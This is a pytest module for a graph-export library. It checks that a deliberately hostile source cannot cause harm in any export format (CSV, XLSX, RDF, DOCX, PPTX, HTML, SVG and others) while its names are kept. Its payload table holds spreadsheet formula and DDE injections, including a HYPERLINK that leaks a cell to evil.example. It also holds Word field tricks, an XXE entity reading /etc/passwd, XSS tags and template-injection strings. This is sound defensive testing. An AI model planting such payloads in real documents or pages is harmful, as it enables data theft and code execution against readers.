"""One hostile document goes through every form of file that we write, and each is opened by the library of its tool.

What is tried: formulas, Word fields, XML entities and markup, control and direction characters, script, 10,000
characters. A form is tried by a function with the mark ``@form(name)``: it writes the graph, opens the file again,
asserts what must not be in it, and gives back the texts that a reader finds, among which every body must be.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import docx
import lxml.html
import networkx as nx
import openpyxl
import pandas as pd
import pptx
import pyoxigraph as ox
import pytest
from conftest import require
from lxml import etree
from world import Source, iri, sources, world

from graph.claims import normal
from graph.model import DocumentGraph
from graph.queries.projection import Graph, from_graphs
from graph.stores import export
from graph.stores.tables import write_folder
from graph.views.exchange import WRITERS
from graph.views.exchange.matrix_docx import to_docx
from graph.views.exchange.pillars import matrix_of

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
PAYLOADS = {
    "Formula": '=HYPERLINK("http://evil.example/?"&A1;"open")',
    "Plus": "+1+cmd|' /C calc'!A0",
    "Minus": "-2+3+cmd|' /C calc'!A0",
    "At": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Tab": "\t=1+1",
    "Field": '{ INCLUDETEXT "c:/secret.txt" } { DDEAUTO c:/x.exe "cmd" } <w:fldSimple w:instr="DATE"/>',
    "Entity": "]]> &xxe; <!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]> &#0; &amp;lt;",
    "Control": "a\x00b\x08c\x0bd\x1b[31m\x7f\x9f\ufffe\uffff",
    "Direction": "\u202egnp.exe\u2066\u200f\u200e\u2029\u2028",
    "Script": SCRIPT,
    "Break": "one\r\ntwo\n\n\"three\";\\N,'four'",
    "Template": "{{ 7*7 }} ${7*7} %s {0} $HOME `id`",
    "Long": "x" * 10_000,
}
"""What is in the name of each body, before the word by which it is found again."""

MARKS = [f"Bureau{name}" for name in PAYLOADS]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def hostile() -> list[Source]:
    """A text and a table that hold the payloads wherever a stranger's text may stand."""
    it = Source("hostile", title=f"{PAYLOADS['Formula']} {SCRIPT}", publisher=PAYLOADS["Entity"], date="2015-03")
    table = Source("rows", "table")
    it.name_("deal", "Instrument", PAYLOADS["Field"])
    for number, (word, payload) in enumerate(PAYLOADS.items()):
        slug = f"bureau-{word.lower()}"
        name = f"Bureau{word} {payload}" if word == "Long" else f"{payload} Bureau{word}"
        alias, site = payload[:60], f"javascript:alert({number})"
        it.name_(slug, "Organization", name, alias, kind="regional_ct_body", website=site)
        it.say(slug, "cooperates_with", "caricc", quote=f"{payload} said {payload}"[:12_000])
        it.say(slug, "works_on", "topic:borders", "planned", quote=payload)
        it.agree(f"deal-{number}", "memorandum", payload, "2014", "planned", slug, "cis-atc")
        table.say(slug, "supports", "sco-rcts", quote=payload, source=f"{payload}, 2014, {site}")
    return [it, table]


@pytest.fixture(scope="module")
def graph() -> Graph:
    return world(*hostile())


@pytest.fixture(scope="module")
def documents() -> list[DocumentGraph]:
    return [source.graph() for source in (*sources(), *hostile())]


Try = Callable[[Graph, list[DocumentGraph], Path], Iterable[str]]
FORMS: dict[str, Try] = {}


def form(name: str) -> Callable[[Try], Try]:
    """A form that the hostile document is tried in."""

    def kept(function: Try) -> Try:
        FORMS[name] = function
        return function

    return kept


def strict(data: bytes) -> etree._Element:
    """XML as a reader without mercy takes it; nothing may be declared in it."""
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
    return etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True))


def parts(data: bytes) -> Iterator[tuple[str, etree._Element]]:
    """The XML parts of an Office file. None refers to anything outside the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            assert not re.search(r"vba|macro|activex|oleobject", name, re.IGNORECASE), name
            if name.endswith((".xml", ".rels")):
                root = strict(archive.read(name))
                outside = root.xpath("//*[local-name()='Relationship'][@TargetMode='External']/@Target")
                assert not outside, f"{name} leads to {outside}"
                yield name, root


def no_fields(data: bytes) -> None:
    """Nothing in a Word file or a presentation is computed or run when it is opened."""
    for name, root in parts(data):
        for tag in ("fldChar", "instrText", "fldSimple", "altChunk", "object", "control", "hlinkClick"):
            assert not root.xpath(f"//*[local-name()='{tag}']"), f"{name} has {tag}"


@form("csv")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    data = WRITERS["csv"](graph)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA) and not _number(cell)]
    assert len(pd.read_csv(io.BytesIO(data))) == len(rows) - 1 == len(graph.statements)
    return (cell for row in rows for cell in row)


def _number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


@form("xlsx")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    data = WRITERS["xlsx"](graph)
    for name, root in parts(data):
        assert not root.xpath("//*[local-name()='f']"), f"{name} has a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA)]
    return texts


@form("jsonl")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    lines = WRITERS["jsonl"](graph).decode("utf-8").splitlines()
    found = [json.loads(line) for line in lines]
    assert len(found) == len(graph.statements)
    names = [end["name"] for line in found for end in (line["subject"], line["object"])]
    assert {graph.entity(iri(f"bureau-{word.lower()}")).name for word in PAYLOADS} <= set(names), "JSON changes nothing"
    return names


@form("graphml")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    data = WRITERS["graphml"](graph)
    strict(data)
    network = nx.read_graphml(io.BytesIO(data), force_multigraph=True)
    return [str(node["name"]) for _, node in network.nodes(data=True)]


@form("gexf")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    data = WRITERS["gexf"](graph)
    strict(data)
    return [str(node["name"]) for _, node in nx.read_gexf(io.BytesIO(data)).nodes(data=True)]


@form("cytoscape")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    network = nx.cytoscape_graph(json.loads(WRITERS["cytoscape"](graph)))
    return [str(node["name"]) for _, node in network.nodes(data=True)]


@form("ftm")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    require("followthemoney")
    from followthemoney import model

    names = []
    for line in WRITERS["ftm"](graph).decode("utf-8").splitlines():
        row = json.loads(line)
        model.get_proxy(row, cleaned=False).schema.validate(row)
        assert not row["properties"].get("website"), "a script is no website"
        names += row["properties"].get("name", [])
    return names


def _rdf(name: str, format: ox.RdfFormat) -> None:
    @form(name)
    def tried(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
        stream = io.BytesIO()
        export.write(documents, stream, name)
        quads = list(ox.parse(stream.getvalue(), format))
        named = {document.entry.id for document in documents}
        assert named <= {quad.subject.value for quad in quads}, "no text of a stranger became a triple"
        return [quad.object.value for quad in quads if isinstance(quad.object, ox.Literal)]


for _name, _format in {
    "trig": ox.RdfFormat.TRIG,
    "nquads": ox.RdfFormat.N_QUADS,
    "turtle": ox.RdfFormat.TURTLE,
    "rdf12": ox.RdfFormat.TURTLE,
    "jsonld": ox.RdfFormat.JSON_LD,
}.items():
    _rdf(_name, _format)


@form("docx-matrix")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    data = to_docx(matrix_of(graph), "0123456789abcdef")
    no_fields(data)
    tables = docx.Document(io.BytesIO(data)).tables
    return [cell.text for table in tables for row in table.rows for cell in row.cells]


@form("parquet")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    pytest.importorskip("pyarrow")
    write_folder(documents, room / "parquet", "parquet")
    return map(str, pd.read_parquet(room / "parquet" / "entities.parquet")["name"])


@form("neo4j-admin")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    texts: list[str] = []
    for path in write_folder(documents, room / "admin", "neo4j-admin"):
        if path.suffix == ".csv":
            rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
            assert len({len(row) for row in rows}) == 1, path.name
            texts += [cell for row in rows for cell in row]
    return texts


@form("html network")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    from graph.views.network import network_page

    page, harmless = network_page(graph, focus="CARICC"), network_page(world(), focus="CARICC")
    assert page.count("<script") == harmless.count("<script")
    assert not lxml.html.document_fromstring(page).xpath("//img[@onerror]")
    assert "http://evil.example" not in "".join(lxml.html.document_fromstring(page).xpath("//@href | //@src"))
    return [page]


@form("svg network")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    from graph.views.stills import network_still

    data = network_still(graph, focus="CARICC")
    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False))
    assert not root.xpath("//*[local-name()='script' or local-name()='foreignObject' or local-name()='a']")
    assert not [name for name in root.xpath("//@*") if str(name).lower().startswith(("javascript:", "http://evil"))]
    return MARKS  # the labels of a still are drawn as outlines, cut to the room they have


@form("pptx brief")
def _(graph: Graph, documents: list[DocumentGraph], room: Path) -> Iterable[str]:
    from graph.views.briefs.content import brief_of
    from graph.views.briefs.pptx import write_pptx

    data = write_pptx(brief_of(graph, ["CARICC"], snapshot="0123456789abcdef"))
    no_fields(data)
    slides = pptx.Presentation(io.BytesIO(data)).slides
    texts = [shape.text_frame.text for slide in slides for shape in slide.shapes if shape.has_text_frame]
    texts += [
        cell.text for slide in slides for shape in slide.shapes if shape.has_table for cell in shape.table.iter_cells()
    ]
    assert any("Bureau" in text for text in texts)
    return MARKS  # a presentation shows the weightiest only


@pytest.mark.parametrize("name", FORMS)
def test_a_hostile_document_does_no_harm_and_is_told_in_every_form(
    name: str, graph: Graph, documents: list[DocumentGraph], tmp_path: Path
) -> None:
    text = "\n".join(FORMS[name](graph, documents, tmp_path))
    assert [mark for mark in MARKS if mark not in text] == []


def test_every_form_of_export_is_tried() -> None:
    from graph.cli.keeping import ExportFormat

    assert set(ExportFormat) <= FORMS.keys()


def test_the_command_writes_every_form_of_a_store_that_holds_it(
    documents: list[DocumentGraph], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    from graph.cli import run
    from graph.cli.keeping import ExportFormat
    from graph.stores import build_store

    pytest.importorskip("pyarrow")
    monkeypatch.setenv("CTGRAPH_STORE", str(tmp_path / "hostile.store"))
    build_store(str(tmp_path / "hostile.store"), documents)
    for name in ExportFormat:
        assert run(["export", "--format", name, "-o", str(tmp_path / name)]) == 0, name
    assert "\x1b" not in capfd.readouterr().err
    kept = from_graphs([normal(document) for document in documents], proposed=True)
    for name, write in WRITERS.items():
        if name != "ftm":
            assert (tmp_path / name).read_bytes() == write(kept), name
